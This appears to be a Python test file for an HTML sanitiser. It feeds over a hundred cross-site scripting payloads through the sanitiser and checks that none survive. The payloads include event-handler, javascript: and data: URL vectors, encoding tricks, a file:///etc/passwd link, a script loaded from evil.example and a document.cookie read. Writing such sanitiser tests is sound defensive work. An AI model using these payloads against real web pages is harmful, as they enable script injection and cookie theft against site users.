"""Rich text sanitisation: no script, style, on* attributes, javascript: or data: URLs survive."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from platu.knowledge.sanitize import clean_html, html_to_text

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=x></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html,x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="x" onclick="alert(1)">x</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>x</a>',
    '<a href="https://ok.example" style="background:url(javascript:alert(1))">x</a>',
    '<p style="color:expression(alert(1))">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>",
    "<td background=javascript:alert(1)>",
    "<div onpointerover=alert(1)>x</div>",
    "<p onclick=alert(1)>x</p>",
    "<h2 onmouseenter=alert(1)>x</h2>",
    "<li onanimationstart=alert(1)>x</li>",
    "<span class=x onfocusin=alert(1) tabindex=1>x</span>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<x onclick=alert(1)>x</x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"/></svg>',
    "<math href=javascript:alert(1)>x</math>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="\\x6Aavascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="\x00javascript:alert(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    '<a href="//evil.example" target=_blank>x</a>',
    "<p><a href='javascript:alert(1)'>ภาษาไทย</a></p>",
    '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
    '<td colspan="2 onmouseover=alert(1)">x</td>',
    '<p class="ql-align-center" onclick="alert(1)">x</p>',
    '<p class="x" id="evil" data-x="alert(1)">x</p>',
    '<h3 style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</h3>',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    "<picture><source srcset=javascript:alert(1)></picture>",
    "<frameset onload=alert(1)>",
    "<applet code=x>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=javascript:alert(1)>",
    "<ilayer src=javascript:alert(1)>",
    "<div><script type=\"module\">import('//evil.example')</script></div>",
    "<script>document.cookie</script><p>ข้อความ</p>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "<svg/onload=alert(1)//",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="https://ok.example"><img src=x onerror=alert(1)></a>',
    "<p>ก่อน<script>alert('ข')</script>หลัง</p>",
]

DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "img", "form", "input", "link",
                  "meta", "base", "frameset", "frame", "applet", "video", "audio", "source", "template", "button",
                  "textarea", "select", "marquee", "details", "picture", "noscript", "xmp", "plaintext", "title"}  # fmt: skip


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "src", "srcset", "background", "formaction", "action",
                                                 "xlink:href", "id", "data-x", "target", "srcdoc", "cite"}:  # fmt: skip
                self.problems.append(f"attribute {name}")
            if name == "href" and value is not None:
                scheme = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower().split(":", 1)
                is_scheme = len(scheme) == 2 and re.fullmatch(r"[a-z][a-z0-9+.-]*", scheme[0])
                if is_scheme and scheme[0] not in {"http", "https", "mailto"}:
                    self.problems.append(f"href scheme {scheme[0]}")


def problems(output: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(output)
    inspector.close()
    return inspector.problems


def test_there_are_more_than_a_hundred_payloads() -> None:
    assert len(VECTORS) >= 100
    assert len(set(VECTORS)) == len(VECTORS)


def test_no_payload_survives() -> None:
    for vector in VECTORS:
        for wrapped in (vector, f"<p>ข้อความ {vector} ต่อ</p>", f"<ul><li>{vector}</li></ul>"):
            out = clean_html(wrapped)
            assert problems(out) == [], (vector, out)
            assert problems(clean_html(out)) == []


def test_the_editor_output_is_kept() -> None:
    editor = (
        '<h2>บริบท</h2><p class="ql-align-center">ผู้ใหญ่บ้าน<strong>เล่า</strong>ว่า <em>น้ำ</em>'
        '<a href="https://example.go.th/x?a=1&amp;b=2">ลิงก์</a></p><ol><li>หนึ่ง</li><li>สอง</li></ol>'
        '<blockquote>อ้างอิง</blockquote><table><tbody><tr><td colspan="2">ก่ ก้ ก๊ ก๋</td></tr></tbody></table>'
    )
    out = clean_html(editor)
    assert '<p class="ql-align-center">' in out and "<strong>เล่า</strong>" in out
    assert 'href="https://example.go.th/x?a=1&amp;b=2"' in out and 'rel="noopener noreferrer nofollow"' in out
    assert "<ol><li>หนึ่ง</li><li>สอง</li></ol>" in out and '<td colspan="2">ก่ ก้ ก๊ ก๋</td>' in out
    assert html_to_text(out).splitlines()[:2] == ["บริบท", "ผู้ใหญ่บ้านเล่าว่า น้ำลิงก์"]


def test_word_paste_structure_is_reduced_to_the_allow_list() -> None:
    word = (
        '<p class=MsoNormal style="mso-margin-top-alt:auto"><span lang=TH style="font-family:TH SarabunPSK">'
        "ก่อนอื่น<o:p></o:p></span></p><!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->"
    )
    out = clean_html(word)
    assert out == '<p><span lang="TH">ก่อนอื่น</span></p>'


FRAGMENTS = st.sampled_from([
    "<", ">", "/", "=", '"', "'", " ", "\t", "\n", "\x00", "&#", "&", ";", ":", "(", ")",
    "script", "SCRIPT", "style", "img", "svg", "iframe", "a", "p", "li", "href", "src", "on", "onerror", "onload",
    "javascript", "java", "script:", "data:", "vbscript:", "alert(1)", "ก", "่", "ำ", "ภาษาไทย", "<!--", "-->",
    "<![CDATA[", "]]>", "x", "http://", "&#106;", "&#x6A;", "%6A", "style=", "class=", "ql-align-center",
])  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(FRAGMENTS, min_size=1, max_size=40).map("".join))
def test_property_random_markup_never_leaves_active_content(markup: str) -> None:
    out = clean_html(markup)
    assert problems(out) == [], (markup, out)
    assert problems(clean_html(out)) == []
